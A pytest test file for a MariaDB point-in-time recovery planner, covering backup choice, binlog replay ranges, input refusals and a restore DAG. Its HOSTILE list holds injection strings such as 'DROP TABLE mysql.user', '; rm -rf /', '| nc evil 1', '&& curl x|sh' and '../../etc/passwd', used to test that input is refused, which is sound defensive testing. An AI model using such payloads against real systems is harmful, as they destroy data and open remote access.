"""The point-in-time planner (pure): the recovery target, the backup chosen, the files to replay, refusals.

The archive: four files of server 1 (GTIDs 0-1-1 .. 0-1-350, one hour each from 00:00, the last open) and
two usable backups (B1 at 00:30, GTID 0-1-50; B2 at 01:30, GTID 0-1-150), so each kind of target has a
backup before and after it. Then a hole in the archive, and a table of hostile inputs.
"""
from __future__ import annotations

import json
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from mysqlbackup.cmdb import parse_cmdb
from mysqlbackup.replay import MODES, PARAMS, ReplayRefused, ReplayRequest, plan_pitr

NOW = datetime(2026, 11, 24, 4, 0, tzinfo=timezone.utc)
T0 = datetime(2026, 11, 24, 0, 0, tzinfo=timezone.utc)
H = timedelta(hours=1)
IDENT = "1-0a1b2c"


def cmdb():
    base = {"host": "10.0.0.5", "port": 3306, "flavor": "mariadb", "ssh_conn_id": "ssh_db",
            "mysql_conn_id": "mysql_backup", "owner": "dba@example.com", "app": "shop"}
    return parse_cmdb({
        "defaults": {"storage": {"ssh_conn_id": "backup_storage", "base_dir": "/srv/b"}},
        "instances": [dict(base, name="shop", role="primary")],
        "restore_targets": [{"name": "t1", "host": "10.0.0.9", "port": 3306, "ssh_conn_id": "ssh_t1",
                             "mysql_conn_id": "mysql_t1", "datadir": "/srv/restore/data", "flavor": "mariadb",
                             "stop_command": "systemctl stop mariadb", "start_command": "systemctl start mariadb"}]})


def backup(label: str, at: datetime, gtid: str, file: str, pos: int, status: str = "usable") -> dict:
    return {"instance": "shop", "label": label, "kind": "full", "status": status, "verify_status": "ok",
            "finished_at": at.replace(tzinfo=None).isoformat(), "gtid": gtid, "binlog_file": file, "binlog_pos": pos,
            "storage_ssh_conn_id": "backup_storage", "storage_path": f"/srv/b/shop/{label}",
            "artifact": "backup.xbstream.zst", "compress": "zstd", "sha256": "a" * 64, "size_bytes": 1 << 20,
            "manifest_json": json.dumps({"tool": "mariabackup 10.11.19", "server_version": "10.11.19-MariaDB",
                                         "source_is_primary": True, "source_server_id": 1})}


B1 = backup("20261124-003000F", T0 + H / 2, "0-1-50", "binlog.000001", 5000)
B2 = backup("20261124-013000F", T0 + 1.5 * H, "0-1-150", "binlog.000002", 5000)


def bfile(n: int, lo: int, hi: int, state: str = "closed") -> dict:
    return {"server_identity": IDENT, "name": f"binlog.{n:06d}", "state": state, "size_bytes": 100_000,
            "sha256": "b" * 64 if state == "closed" else None, "first_event_at": T0 + (n - 1) * H,
            "last_event_at": T0 + (n - 1) * H + (H / 2 if state == "open" else H - timedelta(seconds=1)),
            "start_gtid_state": f"0-1-{lo}" if lo else "", "end_gtid_state": f"0-1-{hi}",
            "first_gtid": f"0-1-{lo + 1}", "last_gtid": f"0-1-{hi}", "archived_at": T0 + (n - 1) * H,
            "storage_path": None}


FILES = [bfile(1, 0, 100), bfile(2, 100, 200), bfile(3, 200, 300), bfile(4, 300, 350, "open")]
STATE = {"caught_up": 1, "measured_at": T0 + 3.5 * H, "last_event_at": T0 + 3.5 * H}


def plan(params: dict, rows=(B1, B2), files=FILES, state=STATE, **kw):
    params = {"instance": "shop", "target": "t1", **params}
    req = ReplayRequest.parse(params, given=params.keys(), now=NOW)
    return plan_pitr(req, cmdb(), list(rows), list(files), state, "r1", now=NOW, **kw)


def refused(params: dict, **kw) -> ReplayRefused:
    with pytest.raises(ReplayRefused) as info:
        plan(params, **kw)
    return info.value


def names(rp) -> list[str]:
    return [f["name"] for f in rp.files]


# ---------------------------------------------------------------------------------------------- choosing


@pytest.mark.parametrize("params,label,start,files", [
    # a time after B2: B2, from the file that holds 0-1-151
    ({"stop_datetime": "2026-11-24 02:30:00"}, B2, "0-1-150", ["binlog.000002", "binlog.000003"]),
    # a time with an offset: the same instant
    ({"stop_datetime": "2026-11-24T04:30:00+02:00"}, B2, "0-1-150", ["binlog.000002", "binlog.000003"]),
    # before B2 finished: B1; binlog.000002 begins at 01:00, not before the (exclusive) stop
    ({"stop_datetime": "2026-11-24 01:00:00"}, B1, "0-1-50", ["binlog.000001"]),
    # a GTID B2 is past: B1
    ({"stop_gtid": "0-1-120"}, B1, "0-1-50", ["binlog.000001", "binlog.000002"]),
    ({"stop_gtid": "0-1-150"}, B2, "0-1-150", ["binlog.000002"]),  # exactly B2's point: nothing to replay
    ({"stop_gtid": "0-1-340"}, B2, "0-1-150", ["binlog.000002", "binlog.000003", "binlog.000004"]),
    # a position in a file after B2's (B2 was taken on the primary: its file:pos is the source's)
    ({"stop_position": "binlog.000003:4711"}, B2, "0-1-150", ["binlog.000002", "binlog.000003"]),
    ({"stop_position": "binlog.000002:6000"}, B2, "0-1-150", ["binlog.000002"]),
    ({"stop_position": "binlog.000002:4000"}, B1, "0-1-50", ["binlog.000001", "binlog.000002"]),
])
def test_the_newest_backup_before_the_target_and_the_files_from_its_exact_gtid(params, label, start, files):
    rplan, rp = plan(params)
    assert rplan.backup_set.chosen.label == label["label"] == rp.backup_label
    assert rp.start_gtid == start and names(rp) == files
    assert rp.mode == "applier" and rp.identity == IDENT
    assert rplan.server_id != 1 and 1 in rp.source_server_ids
    assert json.loads(json.dumps(rp.as_dict()))["stop"]["field"] in ("stop_datetime", "stop_gtid", "stop_position")


def test_a_gap_after_the_newest_backup_falls_back_to_none_and_names_the_gap():
    files = [bfile(1, 0, 100), bfile(3, 200, 300), bfile(4, 300, 350, "open")]  # binlog.000002 lost
    e = refused({"stop_gtid": "0-1-250"}, files=files)
    assert e.field == "stop_gtid" and "0-1-101 .. 0-1-200" in str(e) and "gap" in str(e)
    # before the gap: B1 rolls forward fine
    _, rp = plan({"stop_gtid": "0-1-80"}, files=files)
    assert rp.backup_label == B1["label"] and names(rp) == ["binlog.000001"]
    # a backup taken after the gap reaches a target after it; the older ones are skipped
    b3 = backup("20261124-023000F", T0 + 2.5 * H, "0-1-250", "binlog.000003", 4)
    _, rp = plan({"stop_datetime": "2026-11-24 03:20:00"}, rows=(B1, B2, b3), files=files)
    assert rp.backup_label == b3["label"] and names(rp) == ["binlog.000003", "binlog.000004"]
    e = refused({"stop_datetime": "2026-11-24 01:45:00"}, files=files)
    assert e.field == "stop_datetime" and "recovery window" in str(e)


def test_an_unusable_backup_is_never_the_start():
    damaged = dict(B2, status="damaged")
    _, rp = plan({"stop_datetime": "2026-11-24 02:30:00"}, rows=(B1, damaged))
    assert rp.backup_label == B1["label"] and names(rp)[0] == "binlog.000001"


def test_the_database_filter_is_planned_and_checked_against_the_instance():
    _, rp = plan({"stop_gtid": "0-1-120", "databases": ["shop", "`billing`"]}, known_databases=["shop", "billing",
                                                                                                  "mysql"])
    assert rp.databases == ("shop", "billing") and "dropped" in rp.notes[0]
    e = refused({"stop_gtid": "0-1-120", "databases": ["shop", "nope"]}, known_databases=["shop", "mysql"])
    assert e.field == "databases" and "nope" in str(e) and "shop" in str(e)


# ---------------------------------------------------------------------------------------------- refusals


@pytest.mark.parametrize("params,field,words", [
    ({}, "stop_datetime", "no recovery target"),
    ({"stop_datetime": "2026-11-24 02:00:00", "stop_gtid": "0-1-5"}, "stop_gtid", "more than one"),
    ({"stop_position": "binlog.000002:4", "stop_gtid": "0-1-5"}, "stop_gtid", "more than one"),
    ({"stop_datetime": "2026-11-25 02:00:00"}, "stop_datetime", "in the future"),
    ({"stop_datetime": "2026-11-23 23:00:00"}, "stop_datetime", "outside the recovery window"),
    ({"stop_datetime": "2026-11-24 00:10:00"}, "stop_datetime", "2026-11-24T00:30:00Z .. "),
    ({"stop_datetime": "2026-11-24 02:00:00.5"}, "stop_datetime", "fraction of a second"),
    ({"stop_datetime": "2026-02-30 02:00:00"}, "stop_datetime", "not a real date"),
    ({"stop_datetime": "yesterday"}, "stop_datetime", "not a datetime"),
    ({"stop_position": "binlog.000002"}, "stop_position", "not a binlog position"),
    ({"stop_position": "binlog.000002:1"}, "stop_position", "at least 4"),
    ({"stop_position": "binlog.000009:4"}, "stop_position", "not in the binlog archive"),
    ({"stop_position": "binlog.000002:999999"}, "stop_position", "past its end"),
    ({"stop_position": "binlog.000001:100"}, "stop_position", "before the oldest usable backup"),
    ({"stop_gtid": "0-1"}, "stop_gtid", "not a GTID"),
    ({"stop_gtid": "0-1-0"}, "stop_gtid", "out of range"),
    ({"stop_gtid": "1-1-120"}, "stop_gtid", "domain"),
    ({"stop_gtid": "0-9-120"}, "stop_gtid", "server_id 9"),
    ({"stop_gtid": "0-1-999"}, "stop_gtid", "after the last archived"),
    ({"stop_gtid": "0-1-20"}, "stop_gtid", "before the oldest usable backup"),
    ({"stop_gtid": "0-1-120", "replay_mode": "fast"}, "replay_mode", "applier"),
    ({"stop_gtid": "0-1-120", "databases": "shop"}, "databases", "not a list"),
    ({"stop_gtid": "0-1-120", "databases": ["mysql"]}, "databases", "system schema"),
    ({"stop_gtid": "0-1-120", "databases": ["shop", "shop"]}, "databases", "twice"),
    ({"stop_gtid": "0-1-120", "overwrite": "yes"}, "overwrite", "boolean"),
    ({"stop_gtid": "0-1-120", "instance": "nope"}, "instance", "unknown instance"),
    ({"stop_gtid": "0-1-120", "target": "t9"}, "target", "unknown restore target"),
])
def test_bad_input_is_refused_naming_the_param(params, field, words):
    e = refused(params)
    assert e.field == field and words in str(e), str(e)


def test_an_unknown_param_and_an_empty_archive_are_refused():
    with pytest.raises(ReplayRefused, match="unknown param"):
        ReplayRequest.parse({"instance": "shop", "target": "t1", "stop_gtid": "0-1-5", "datadir": "/"},
                            given=["instance", "target", "stop_gtid", "datadir"], now=NOW)
    e = refused({"stop_gtid": "0-1-120"}, files=[])
    assert e.field == "instance" and "holds no file" in str(e)
    e = refused({"stop_gtid": "0-1-120"}, rows=[dict(B1, gtid=None), dict(B2, gtid=None)])
    assert "no usable backup with a GTID" in str(e)


HOSTILE = [
    "'; DROP TABLE mysql.user; --", "\" OR 1=1 --", "`; SHUTDOWN; `", "$(reboot)", "`reboot`", "; rm -rf /",
    "| nc evil 1", "&& curl x|sh", "binlog.000002:4; DROP DATABASE shop", "binlog.000002:4\n", "../../etc/passwd:4",
    "0-1-5'; --", "0-1-5\n0-1-6", "0-1-5 OR 1", "2026-11-24 02:00:00' OR '1", "2026-11-24 02:00:00\n",
    "\x00", "\\", "%", "*", "shop;", "shop`", "shop\n", "a" * 65, "shop' OR '1'='1", "${IFS}", "\u202eshop",
    "shop,other", "shop.%", "-- ", "/*! DROP */", "'", "NULL", "\r\n",
]


@pytest.mark.parametrize("field", ["instance", "target", "stop_datetime", "stop_position", "stop_gtid",
                                   "databases", "replay_mode"])
@pytest.mark.parametrize("bad", HOSTILE)
def test_hostile_strings_are_refused_in_every_param(field, bad):
    params = {"stop_gtid": "0-1-120"}
    if field in ("stop_datetime", "stop_position"):
        params = {}
    params[field] = [bad] if field == "databases" else bad
    with pytest.raises(ReplayRefused) as info:
        plan(params, known_databases=["shop", "mysql"])
    assert info.value.field in (field, "stop_datetime") or info.value.field is None
    if field in ("stop_datetime", "stop_position", "stop_gtid", "databases", "replay_mode"):
        assert info.value.field == field, (bad, str(info.value))


def test_the_params_are_the_issues():
    assert PARAMS == ("instance", "target", "stop_datetime", "stop_position", "stop_gtid", "databases",
                      "replay_mode", "overwrite")
    assert MODES[0] == "applier"


# ---------------------------------------------------------------------------------------------- the host side


def _host():
    sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "include" / "scripts"))
    import replay as host
    return host


def trx(file: str, start: int, end: int, q: int, ts: int, sid: int = 1) -> dict:
    return {"file": file, "start": start, "end": end, "gtid": (0, sid, q), "ts": ts}


def scans():
    a = {"name": "binlog.000001", "start_state": {0: (1, 10)}, "end": 400, "server_ids": {1},
         "transactions": [trx("binlog.000001", 100 * i, 100 * i + 90, 10 + i, 1000 + i) for i in range(1, 4)]}
    b = {"name": "binlog.000002", "start_state": {0: (1, 13)}, "end": 400, "server_ids": {1},
         "transactions": [trx("binlog.000002", 100 * i, 100 * i + 90, 13 + i, 1003 + i) for i in range(1, 4)]}
    return [a, b]


@pytest.mark.parametrize("kind,value,count,last", [
    ("gtid", (0, 1, 15), 4, "0-1-15"),             # inclusive
    ("gtid", (0, 1, 11), 0, None),                 # the backup's own point: nothing
    ("datetime", 1005, 3, "0-1-14"),               # exclusive: the transaction at 1005 is left out
    ("position", ("binlog.000002", 200), 3, "0-1-14"),  # its GTID event's position: left out
    ("position", ("binlog.000002", 250), 3, "0-1-14"),  # inside it: never cut, left out
    ("position", ("binlog.000002", 290), 4, "0-1-15"),  # at its end: included
])
def test_the_host_plan_starts_after_the_backups_gtid_and_stops_exactly(kind, value, count, last):
    host = _host()
    out = host.plan_replay(scans(), {0: (1, 11)}, kind, value)
    assert out["transactions"] == count and out["last_gtid"] == last
    if count:
        assert (out["start_file"], out["start_pos"]) == ("binlog.000001", 200)  # 0-1-12, not a file boundary


def test_the_host_plan_refuses_holes_and_unknown_targets():
    host = _host()
    s = scans()
    with pytest.raises(host.ScriptError, match="begins after"):
        host.plan_replay(s, {0: (1, 5)}, "gtid", (0, 1, 15))
    broken = [s[0], dict(s[1], start_state={0: (1, 14)})]
    with pytest.raises(host.ScriptError, match="does not continue"):
        host.plan_replay(broken, {0: (1, 11)}, "gtid", (0, 1, 15))
    with pytest.raises(host.ScriptError, match="not in the files"):
        host.plan_replay(s, {0: (1, 11)}, "gtid", (0, 1, 99))
    with pytest.raises(host.ScriptError, match="not in the files"):
        host.plan_replay(s, {0: (1, 11)}, "gtid", (0, 7, 15))
    assert host.wild_filter(["a_b", "c%"]) == "a\\_b.%,c\\%.%"


def test_the_dag_chains_plan_restore_fetch_replay_finish_and_its_form_is_typed():
    from dag_render import RESTORE_PITR_DAG_ID, restore_pitr_dag
    dag = restore_pitr_dag(cmdb())
    assert dag.dag_id == RESTORE_PITR_DAG_ID == "mysql_restore_pitr"
    order, task = [], dag.get_task("plan")
    while task is not None:
        order.append(task.task_id)
        down = list(task.downstream_list)
        task = down[0] if down else None
    assert order == ["plan", "check_target", "stop_target", "transfer", "prepare", "copy_back", "fix_ownership",
                     "start_target", "verify_restored", "fetch_binlogs", "replay", "finish", "report"]
    params = dag.params.dump()
    assert set(PARAMS) <= set(params)
    assert params["replay_mode"] == "applier" and params["overwrite"] is False
    for name in ("stop_datetime", "stop_position", "stop_gtid"):
        assert params[name] is None and "null" in dag.params.get_param(name).schema["type"]
    assert "EXCLUSIVE" in dag.params.get_param("stop_datetime").description
    assert "INCLUSIVE" in dag.params.get_param("stop_gtid").description
